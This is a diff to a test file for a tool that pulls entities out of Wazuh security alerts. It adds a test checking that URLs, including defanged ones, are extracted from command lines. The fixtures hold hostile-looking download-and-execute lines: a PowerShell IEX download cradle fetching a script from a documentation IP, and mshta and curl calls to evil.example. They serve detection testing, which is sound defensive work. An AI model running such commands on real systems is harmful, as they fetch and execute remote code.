@@ -119,6 +119,29 @@ describe("an alert of Wazuh", () => {
     ]);
   });
 
+  test("a link in a command line is one to look into, defanged or not", () => {
+    const urls = (commandLine: string) =>
+      entities({ data: { win: { eventdata: { image: "C:\\\\Windows\\\\x.exe", commandLine } } } })
+        .filter(({ entity }) => entity.kind === "url")
+        .map(({ entity, roles }) => [entity.kind === "url" && entity.url, ...roles]);
+    expect(urls(`powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9:8080/a.ps1')"`)).toEqual([
+      ["http://203.0.113.9:8080/a.ps1", "related"],
+    ]);
+    expect(urls("mshta hxxps[:]//evil[.]example/x.hta, then HTTPS://Evil.example/b?c=d&e;")).toEqual([
+      ["https://evil.example/x.hta", "related"],
+      ["HTTPS://Evil.example/b?c=d&e", "related"],
+    ]);
+    expect(urls("curl http://$server/a ftp:// hxxp://[ C:\\x\\http.exe")).toEqual([]);
+    expect(entities({ data: { audit: { exe: "/usr/bin/curl", execve: { a0: "curl", a1: "http://evil.example/i.sh" } } } })).toContainEqual({
+      entity: { kind: "url", url: "http://evil.example/i.sh" },
+      roles: ["related"],
+    });
+    const started = performance.now();
+    urls("hxxp://".repeat(4000));
+    urls(`http://${"[.]".repeat(10_000)}`);
+    expect(performance.now() - started).toBeLessThan(1000);
+  });
+
   test("flat decoders, auditd and AWS", () => {
     expect(entities({ data: { srcip: "203.0.113.9", dstuser: "root", srcuser: "-" } }).slice(1)).toEqual([
       { entity: { kind: "ip", address: "203.0.113.9" }, roles: ["source"] },
